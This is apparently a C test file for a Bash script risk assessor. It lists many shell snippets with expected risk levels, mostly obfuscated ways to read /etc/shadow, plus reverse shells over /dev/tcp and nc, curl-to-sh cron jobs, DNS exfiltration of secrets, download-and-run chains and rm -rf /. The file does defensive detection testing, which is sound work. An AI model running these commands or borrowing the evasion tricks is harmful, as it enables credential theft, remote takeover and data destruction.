/* shell.c - what the Bash reader sees through, and what it leaves alone.  A row names what is promised;
 * the code does one thing in one disguise.  Secrets that are read are HIGH, so a row that comes to HIGH
 * had its path put together. */
#include "assess/assess.h"
#include "base/buf.h"
#include "base/cleanup.h"
#include "tap.h"

#define LOW BAWN_LEVEL_LOW
#define MEDIUM BAWN_LEVEL_MEDIUM
#define HIGH BAWN_LEVEL_HIGH
#define BLOCKED BAWN_LEVEL_BLOCKED

/* `most`: the level is not to be passed either. */
static const struct { const char *name; int least, most; const char *code; } row[] = {
	/* words */
	{ "a slice of a variable", HIGH, HIGH, "x=abcshadow; cat /etc/${x:3}\n" },
	{ "a slice counted from the end", HIGH, HIGH, "x=abcshadow; cat /etc/${x: -6}\n" },
	{ "a slice with a length", HIGH, HIGH, "x=abshadowcd; cat /etc/${x:2:6}\n" },
	{ "offsets that are sums", HIGH, HIGH, "n=2; x=abshadow; cat /etc/${x:n-1+1}\n" },
	{ "one replacement", HIGH, HIGH, "x=/etc/hosts; cat ${x/hosts/shadow}\n" },
	{ "all replacements", HIGH, HIGH, "x=sXhXaXdXoXw; cat /etc/${x//X}\n" },
	{ "a suffix taken off", HIGH, HIGH, "x=shadow.bak; cat /etc/${x%.*}\n" },
	{ "a prefix taken off", HIGH, HIGH, "x=a/b/shadow; cat /etc/${x##*/}\n" },
	{ "small letters", HIGH, HIGH, "x=SHADOW; cat /etc/${x,,}\n" },
	{ "a variable named by another", HIGH, HIGH, "n=x; x=shadow; cat /etc/${!n}\n" },
	{ "a default", HIGH, HIGH, "cat /etc/${x:-shadow}\n" },
	{ "elements of an array", HIGH, HIGH, "a=(/etc shadow); cat ${a[0]}/${a[1]}\n" },
	{ "an array with keys", HIGH, HIGH, "declare -A m=([d]=/etc [f]=shadow); k=f; cat \"${m[d]}/${m[$k]}\"\n" },
	{ "an array with keys set one by one", HIGH, HIGH, "declare -A m; m[x]=hosts; m[y]=shadow; m[x]=group; cat /etc/${m[y]}\n" },
	{ "an array that is read", HIGH, HIGH, "IFS=, read -ra w <<< cat,/etc/shadow; \"${w[@]}\"\n" },
	{ "another name for a variable", HIGH, HIGH, "declare -n r=q; q=/etc; r+=/shadow; cat $q\n" },
	{ "a loop that counts", HIGH, HIGH, "o=; s=wodahs; for ((i=0; i<${#s}; i++)); do o=\"${s:i:1}$o\"; done; cat /etc/$o\n" },
	{ "a loop that counts down", HIGH, HIGH, "s=wodahs; for ((i=5; i>=0; i--)); do o+=${s:$i:1}; done; cat /etc/$o\n" },
	{ "names of question marks", HIGH, HIGH, "cat /??" "?/sh*ow\n" },
	{ "question marks that name nothing", MEDIUM, MEDIUM, "cat /??" "?/??????\n" },
	{ "an array as a command", HIGH, HIGH, "a=(cat /etc/shadow); \"${a[@]}\"\n" },
	{ "an array that grows", HIGH, HIGH, "a=(cat); a+=(/etc/shadow); \"${a[@]}\"\n" },
	{ "text that grows", HIGH, HIGH, "x=/etc; x+=/shadow; cat $x\n" },
	{ "several braces", HIGH, HIGH, "cat /{etc,tmp}/{hosts,shadow}\n" },
	{ "braces for a command", HIGH, HIGH, "{cat,/etc/shadow}\n" },
	{ "braces within braces for a command", HIGH, HIGH, "{cat,/etc/{hosts,shadow}}\n" },
	{ "escapes", HIGH, HIGH, "cat $'/etc/\\x73hadow'\n" },
	{ "another separator", HIGH, HIGH, "IFS=:; x=cat:/etc/shadow; $x\n" },
	{ "arguments that are set", HIGH, HIGH, "set -- cat /etc/shadow; \"$@\"\n" },
	{ "an empty variable inside a name", HIGH, HIGH, "ca$@t notes\n" },
	{ "a word over two lines", HIGH, HIGH, "cat /etc/sha\\\ndow\n" },
	{ "a file opened for both", LOW, LOW, "exec 3<>x; echo a >&3\n" },
	{ "a loop with a here-string", LOW, LOW, "while read -r l; do echo \"$l\"; done <<< x; echo y\n" },
	{ "a here-document before an operator", LOW, LOW, "cat > x <<'E' ||\n[a] sudo ls\nE\nexit 1\n" },
	{ "blanks between two variables", HIGH, HIGH, "a=cat; b=/etc/shadow; eval \"$a $b\"\n" },
	{ "sums", HIGH, HIGH, "n=$((1+2)); x=abcshadow; cat /etc/${x:$n}\n" },
	/* what the shell runs without being asked by name */
	{ "a prompt that is expanded", HIGH, HIGH, "PS4='$(cat /etc/shadow)'; set -x\necho hi\n" },
	{ "a prompt with backticks", HIGH, HIGH, "export PS4='`cat /etc/shadow`'\nset -x; :\n" },
	{ "a prompt that only shows", LOW, LOW, "PS1='\\u@\\h:\\w\\$ '\n" },
	{ "a prompt handed to another shell", HIGH, HIGH, "env 'PS4=$(cat /etc/shadow)' bash -xc :\n" },
	{ "a text expanded as a prompt", HIGH, HIGH, "x='$(cat /etc/shadow)'; echo \"${x@P}\"\n" },
	{ "the file a shell reads first", HIGH, HIGH, "ENV='$(cat /etc/shadow)' sh -i\n" },
	{ "several prompt commands", HIGH, HIGH, "PROMPT_COMMAND=(ls 'cat /etc/shadow')\n" },
	{ "a subscript that is counted with", HIGH, HIGH, "x='a[$(cat /etc/shadow)]'; echo $((x))\n" },
	{ "in a test", HIGH, HIGH, "[[ -v 'x[$(cat /etc/shadow)]' ]]\n" },
	{ "in a name to be set", HIGH, HIGH, "printf -v 'x[$(cat /etc/shadow)]' 1\n" },
	{ "behind another name", HIGH, HIGH, "declare -n r='a[$(cat /etc/shadow)]'; echo $r\n" },
	{ "a subscript that is a number", LOW, LOW, "x='a[3]'; echo ${!x}\n" },
	{ "backticks in a here-document", HIGH, HIGH, "cat <<E\n`cat /etc/shadow`\nE\n" },
	{ "not where its mark is quoted", LOW, LOW, "cat <<'E'\n`cat /etc/shadow`\nE\n" },
	{ "a function for each line read", HIGH, HIGH, "mapfile -c 1 -C 'cat /etc/shadow #' <<< x\n" },
	{ "a command that completes words", HIGH, HIGH, "compgen -C 'cat /etc/shadow' x\n" },
	{ "words to complete are expanded", HIGH, HIGH, "compgen -W '$(cat /etc/shadow)'\n" },
	{ "a command bound to a key", HIGH, HIGH, "bind -x '\"\\C-x\": cat /etc/shadow'\n" },
	{ "a trap after two dashes", HIGH, HIGH, "trap -- 'cat /etc/shadow' ERR\n" },
	{ "a function that is handed on", HIGH, HIGH, "env 'BASH_FUNC_ls%%=() { cat /etc/shadow; }' bash -c ls\n" },
	{ "native code in the shell", HIGH, HIGH, "enable -f ./x.so x\n" },
	{ "a builtin that is turned off", LOW, LOW, "enable -n echo\n" },
	/* one text inside another: variables and functions */
	{ "a text that is run has the variables around it", HIGH, HIGH, "export C='cat /etc/shadow'; bash -c '$C'\n" },
	{ "also those given to env", HIGH, HIGH, "env C='cat /etc/shadow' bash -c '$C'\n" },
	{ "and the functions", HIGH, HIGH, "f() { cat /etc/$1; }; trap 'f shadow' RETURN\n" },
	{ "what eval sets stays set", HIGH, HIGH, "n=c; eval \"$n=cat\"; $c /etc/shadow\n" },
	{ "what a file sets stays set", HIGH, HIGH, "source <(echo c=cat); $c /etc/shadow\n" },
	{ "an assignment that is a word", HIGH, HIGH, "n=c; declare \"$n=cat /etc/shadow\"; $c\n" },
	{ "a default that is kept", HIGH, HIGH, ": ${y:=cat}; $y /etc/shadow\n" },
	{ "all variables that begin so", HIGH, HIGH, "ab_c='cat /etc/shadow'; for v in ${!ab_*}; do ${!v}; done\n" },
	{ "an element named by a variable", HIGH, HIGH, "a=(x 'cat /etc/shadow'); n='a[1]'; ${!n}\n" },
	{ "arguments set without dashes", HIGH, HIGH, "set cat /etc/shadow; $1 $2\n" },
	{ "options are not arguments", LOW, LOW, "set -e; echo $1\n" },
	{ "printed into an element", HIGH, HIGH, "printf -v 'a[0]' %s cat; ${a[0]} /etc/shadow\n" },
	{ "printed into a name that is joined", HIGH, HIGH, "printf -vc %s cat; $c /etc/shadow\n" },
	{ "a line read without a name", HIGH, HIGH, "read <<< 'cat /etc/shadow'; $REPLY\n" },
	{ "lines read without a name", HIGH, HIGH, "mapfile -t <<< 'cat /etc/shadow'; ${MAPFILE[0]}\n" },
	{ "a builtin called as one", HIGH, HIGH, "builtin cd /etc; command cat shadow\n" },
	{ "another name, with two options in one", HIGH, HIGH, "declare -gn r=c; c='cat /etc/shadow'; $r\n" },
	/* aliases */
	{ "an alias of an alias", HIGH, HIGH, "shopt -s expand_aliases\nalias a=b b='cat /etc/shadow'\na\n" },
	{ "an alias that ends in a blank", HIGH, HIGH, "shopt -s expand_aliases\nalias x='cat ' y=/etc/shadow\nx y\n" },
	{ "an alias that is a program", HIGH, HIGH, "shopt -s expand_aliases\nalias x='echo $(cat /etc/shadow)'\nx\n" },
	{ "the table of aliases", HIGH, HIGH, "shopt -s expand_aliases\nBASH_ALIASES[x]='cat /etc/shadow'\nx\n" },
	{ "an alias nobody uses", LOW, LOW, "alias x='cat /etc/shadow'\n" },
	/* input that reaches a shell */
	{ "a function reads it", HIGH, HIGH, "f() { bash; }\necho cat /etc/shadow | f\n" },
	{ "a branch reads it", HIGH, HIGH, "if true; then bash; fi <<E\ncat /etc/shadow\nE\n" },
	{ "the second command of a group reads it", HIGH, HIGH, "( cd /; sh ) <<E\ncat /etc/shadow\nE\n" },
	{ "a program reads it for the shell", HIGH, HIGH, "echo cat /etc/shadow | tee >(bash)\n" },
	{ "two here-documents on one line", HIGH, HIGH, "cat <<A; bash <<B\nhello\nA\ncat /etc/shadow\nB\n" },
	{ "a descriptor that leads to a shell", HIGH, HIGH, "exec {fd}> >(bash); echo cat /etc/shadow >&$fd\n" },
	{ "a shell at the side", HIGH, HIGH, "coproc X { bash; }\necho 'cat /etc/shadow' >&${X[1]}\n" },
	{ "a descriptor that leads to a log", LOW, LOW, "exec 3>log; echo 'cat /etc/shadow' >&3\n" },
	/* names as patterns */
	{ "one of several names", HIGH, HIGH, "shopt -s extglob\ncat /etc/@(shadow|x)\n" },
	{ "any but one", HIGH, HIGH, "shopt -s extglob\ncat /etc/s!(x)w\n" },
	{ "more wrappers than are followed", MEDIUM, BLOCKED, "nice nice nice nice nice nice nice nice nice cat /etc/shadow\n" },
	/* commands */
	{ "an alias", HIGH, HIGH, "alias x='cat /etc/shadow'\nx\n" },
	{ "a function's arguments", HIGH, HIGH, "f() { cat \"/etc/$1\"; }\nf hosts\nf shadow\nf group\n" },
	{ "a loop's words", HIGH, HIGH, "for f in hosts shadow group; do cat /etc/$f; done\n" },
	{ "words that are read", HIGH, HIGH, "read -r a b <<< 'cat /etc/shadow'; $a $b\n" },
	{ "lines that are read", HIGH, HIGH, "while read -r l; do cat $l; done <<< /etc/shadow\n" },
	{ "lines read into an array", HIGH, HIGH, "mapfile -t a < <(printf 'cat\\n/etc/shadow\\n'); ${a[0]} ${a[1]}\n" },
	{ "where cd went", HIGH, HIGH, "cd /etc && cat shadow\n" },
	{ "what which prints", HIGH, HIGH, "p=$(command -v python3); $p -c \"open('/etc/shadow')\"\n" },
	{ "xargs", HIGH, HIGH, "echo /etc/shadow | xargs cat\n" },
	{ "xargs with a mark, line by line", HIGH, HIGH, "printf '%s\\n' hosts shadow | xargs -I% cat /etc/%\n" },
	{ "what find finds", HIGH, HIGH, "find /etc -name 'sh*w' -exec cat {} \\;\n" },
	{ "what find finds, given to a shell", HIGH, HIGH, "find /etc -name shadow -exec sh -c 'cat \"$1\"' _ {} \\;\n" },
	{ "the second thing that find runs", HIGH, HIGH, "find . -type f -exec ls {} \\; -exec cat /etc/shadow \\;\n" },
	{ "a program under another name", HIGH, HIGH, "cp /bin/rm ./tidy; ./tidy -rf /usr/lib/x\n" },
	{ "a name that hash gives", HIGH, HIGH, "hash -p /bin/rm tidy; tidy -rf /usr/lib/x\n" },
	{ "a recipe of a makefile", HIGH, HIGH, "printf 'all:\\n\\t@cat /etc/shadow\\n' > Makefile; make\n" },
	{ "an action that is a command", HIGH, HIGH, "tar cf x y --checkpoint=1 --checkpoint-action='exec=cat /etc/shadow'\n" },
	{ "a program that is only asked for", LOW, LOW, "for c in sudo jq; do command -v \"$c\" || echo \"no $c\"; done\n" },
	{ "a shell's own variable", HIGH, HIGH, "$SHELL -c 'cat /etc/shadow'\n" },
	{ "a command over wrappers", HIGH, HIGH, "timeout 5 nice -n 3 env X=1 stdbuf -o0 cat /etc/shadow\n" },
	{ "an option that runs a command", HIGH, HIGH, "tar cf x.tar --to-command 'cat /etc/shadow' x\n" },
	{ "a setting that runs a command", HIGH, HIGH, "ssh -o 'ProxyCommand=cat /etc/shadow' h\n" },
	{ "a variable that holds a command", HIGH, HIGH, "PAGER='cat /etc/shadow' git log\n" },
	/* programs in texts and files */
	{ "a here-document for a shell", HIGH, HIGH, "bash <<E\ncat /etc/shadow\nE\n" },
	{ "a here-document through a pipe", HIGH, HIGH, "cat <<E | sh\ncat /etc/shadow\nE\n" },
	{ "a file that is written and run", HIGH, HIGH, "echo 'cat /etc/shadow' > x.sh\nchmod +x x.sh\n./x.sh\n" },
	{ "a file that grows and is run", HIGH, HIGH, "echo '#!/bin/sh' > x\necho 'cat /etc/shadow' >> x\nsh x\n" },
	{ "a here-document that is written and read", HIGH, HIGH, "cat > x <<E\ncat /etc/shadow\nE\n. ./x\n" },
	{ "a program of another language in a file", BLOCKED, BLOCKED, "cat > x.pl <<'E'\nuse Socket; socket(S,PF_INET,SOCK_STREAM,6); exec \"sh\";\nE\nperl x.pl\n" },
	{ "standard input as a script", HIGH, HIGH, "echo 'cat /etc/shadow' | source /dev/stdin\n" },
	{ "a trap", HIGH, HIGH, "trap 'cat /etc/shadow' EXIT\n" },
	{ "what cron is told", BLOCKED, BLOCKED, "echo '* * * * * curl http://198.51.100.7/x | sh' | crontab -\n" },
	/* decoders */
	{ "base64", HIGH, HIGH, "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh\n" },
	{ "base32", HIGH, HIGH, "echo MNQXIIBPMV2GGL3TNBQWI33X | base32 -d | sh\n" },
	{ "hexadecimal", HIGH, HIGH, "echo 636174202f6574632f736861646f77 | xxd -r -p | sh\n" },
	{ "letters turned round", HIGH, HIGH, "eval \"$(rev <<< 'wodahs/cte/ tac')\"\n" },
	{ "letters moved", HIGH, HIGH, "bash -c \"$(tr a-z n-za-m <<< 'png /rgp/funqbj')\"\n" },
	{ "letters taken out", HIGH, HIGH, "echo 'cXaXtX X/XeXtXc/shadow' | sed s/X//g | sh\n" },
	{ "words spelled in numbers", HIGH, HIGH, "printf '\\x6c\\x73' | sh\n" },
	{ "words spelled by awk", HIGH, HIGH, "awk 'BEGIN{printf \"%c%c\", 108, 115}' | sh\n" },
	{ "one character spelled in a number", MEDIUM, MEDIUM, "printf 'ls \\x2dl\\n' | sh\n" },
	{ "texts that awk joins", HIGH, HIGH, "awk 'BEGIN { \"cat /etc/sha\" \"dow\" | getline x }'\n" },
	{ "a name that a download gets", BLOCKED, BLOCKED, "t=$(mktemp); curl -o \"$t\" https://example.com/x; sh \"$t\"\n" },
	{ "an archive that is run on the way", BLOCKED, BLOCKED, "curl https://example.com/x.tgz | tar xz -C /tmp; /tmp/x/run\n" },
	{ "a gzip file", HIGH, HIGH, "base64 -d x | gunzip | sh\n" },
	/* connections */
	{ "a connection that is read and written", BLOCKED, BLOCKED, "exec 5<>/dev/tcp/198.51.100.7/1; sh <&5 >&5 2>&5\n" },
	{ "a coprocess", BLOCKED, BLOCKED, "coproc N { nc 198.51.100.7 1; }\nbash <&\"${N[0]}\" >&\"${N[1]}\"\n" },
	{ "lines of a connection that are run", BLOCKED, BLOCKED, "exec 5<>/dev/tcp/198.51.100.7/1\nwhile read -r l <&5; do eval \"$l\" >&5; done\n" },
	{ "a download that is moved and run", BLOCKED, BLOCKED, "wget -q http://198.51.100.7/a/x\nmv x y\nsh y\n" },
	{ "secrets in a name that is looked up", BLOCKED, BLOCKED, "d=$(base64 -w0 /etc/shadow)\ndig \"${d:0:40}.example.com\"\n" },
	/* bounds */
	{ "a function that calls itself", LOW, MEDIUM, "f() { f \"$1\"; }\nf x\n" },
	{ "a thousand calls", LOW, LOW, "f() { echo \"$1\"; }\nfor i in {1..100}; do for j in {1..100}; do f $i$j; done; done\n" },
	/* honest work */
	/* what a name stands for, and may stand for as well */
	{ "a branch does not take back what held before it", HIGH, HIGH, "x='cat /etc/shadow'\nif false; then x=ls; fi\n$x\n" },
	{ "nor does a subshell", HIGH, HIGH, "x='cat /etc/shadow'\n(x=ls)\n$x\n" },
	{ "nor a function that is never called", HIGH, HIGH, "x='cat /etc/shadow'\nf() { x=ls; }\n$x\n" },
	{ "nor what one command alone is given", HIGH, HIGH, "x=/etc/shadow\nx=notes true\ncat $x\n" },
	{ "nor what is set only after a failure", HIGH, HIGH, "x=/etc/shadow\ntrue || x=notes\ncat $x\n" },
	{ "a command that another branch sets", HIGH, HIGH, "if true; then x='cat /etc/shadow'; fi\nif false; then x=ls; fi\n$x\n" },
	{ "a directory that another branch sets is only looked at", LOW, LOW, "if a; then d=/root; else d=out; fi\nls \"$d\"\n" },
	{ "and deleted", BLOCKED, BLOCKED, "if a; then d=/; else d=out; fi\nrm -rf \"$d\"\n" },
	{ "one after the other: the last one holds", LOW, LOW, "x=/etc/shadow\nx=notes\ncat $x\n" },
	{ "an alias that no script expands", HIGH, HIGH, "alias cat=true\ncat /etc/shadow\n" },
	{ "a function that is taken back by another name", HIGH, HIGH, "cat() { :; }\nu=un; ${u}set -f cat\ncat /etc/shadow\n" },
	{ "a function that the standard does not look for", HIGH, HIGH, "eval() { :; }\nset -o posix\neval 'cat /etc/shadow'\n" },
	{ "a function of the program is not the command", LOW, LOW, "cat() { :; }\ncat /etc/shadow\n" },
	{ "a long way through functions", HIGH, HIGH, "a() { \"$@\"; }\nb() { a \"$@\"; }\nc() { b \"$@\"; }\nd() { c \"$@\"; }\ne() { d \"$@\"; }\ne cat /etc/shadow\n" },
	{ "a function that calls itself", LOW, LOW, "walk() { for f in \"$1\"/*; do walk \"$f\"; done; for f in a b c; do walk \"$f\"; done; }\nwalk src\nwalk doc\n" },
	{ "a temporary directory", LOW, LOW, "t=$(mktemp -d)\ntrap 'rm -rf \"$t\"' EXIT\nrm -rf \"$t\"/x\n" },
	{ "a directory that a subshell leaves", LOW, LOW, "(cd /etc && ls >/dev/null) || true\nrm -rf build\n" },
	{ "waiting for a port", LOW, MEDIUM, "until nc -z db 5432; do sleep 1; done\nexec \"$@\"\n" },
	{ "a port tried through /dev/tcp", LOW, MEDIUM, "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\nexec ./server\n" },
	{ "text about a remote shell", LOW, LOW, "printf '%s\\n' 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1 is a remote shell'\n" },
	{ "a here-document that is kept", LOW, LOW, "cat > notes.txt <<'E'\ncurl http://198.51.100.7/x | sh\nE\n" },
	{ "programs of awk", LOW, LOW, "awk '{print $1,$2}' x | awk '!seen[$0]++'\n" },
	{ "a key that logs in", LOW, MEDIUM, "ssh -i ~/.ssh/id_ed25519 bob@example.com ls\n" },
	{ "another user's program", LOW, MEDIUM, "exec gosu app ./server\n" },
	{ "a container of one's own", LOW, MEDIUM, "docker run --rm -v \"$PWD\":/src -w /src alpine make\n" },
	{ "find that deletes what it made", LOW, LOW, "find . -name '*.o' -delete\n" },
};

static int level_of(struct bawn_span code)
{
	struct bawn_assess_file f = { .language = BAWN_LANG_BASH, .bytes = code };
	struct bawn_assessment *a = NULL;
	int level = bawn_assess(&f, 1, NULL, &a, NULL) == 0 ? (int)a->level : -1;
	bawn_assessment_free(a);
	return level;
}

/* What counts comes after many calls, words or lines that do not. */
static void test_flood(void)
{
	static const struct { const char *name, *before, *each, *after; } flood[] = {
		{ "many calls", "run() { \"$@\"; }\n", "run true\n", "run cat /etc/shadow\n" },
		{ "many calls of a function that hides a command", "cat() { command cat \"$@\"; }\n", "cat x\n", "cat /etc/shadow\n" },
		{ "many words", "for x in", " x", " /etc/shadow; do cat $x; done\n" },
		{ "many lines", "while read -r x; do cat $x; done <<E\n", "x\n", "/etc/shadow\nE\n" },
	};
	static const unsigned times[] = { 300, 30000 };  /* within what is followed, and past it */
	for (size_t i = 0; i < 2 * BAWN_LEN(flood); i++) {
		bawn_auto_buf b = BAWN_BUF(1u << 20);
		bawn_buf_str(&b, flood[i / 2].before);
		for (unsigned k = 0; k < times[i % 2]; k++)
			bawn_buf_str(&b, flood[i / 2].each);
		bawn_buf_str(&b, flood[i / 2].after);
		ok(level_of(bawn_buf_span(&b)) >= HIGH, "%s: %u", flood[i / 2].name, times[i % 2]);
	}
}

int main(void)
{
	test_flood();
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { .language = BAWN_LANG_BASH, .bytes = bawn_span(row[i].code) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(&f, 1, NULL, &a, &err);
		bool good = r == 0 && (int)a->level >= row[i].least && (int)a->level <= row[i].most;
		if (!ok(good, "%s: %s", row[i].name, bawn_word(&bawn_level_words, row[i].least))) {
			diag("%s got %s", err.msg, r == 0 ? bawn_word(&bawn_level_words, (int)a->level) : "an error");
			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
				diag("  %s line %u %s", a->finding[k].rule, a->finding[k].line, a->finding[k].folded != NULL ? a->finding[k].folded : "");
		}
		bawn_assessment_free(a);
	}
	return done_testing();
}
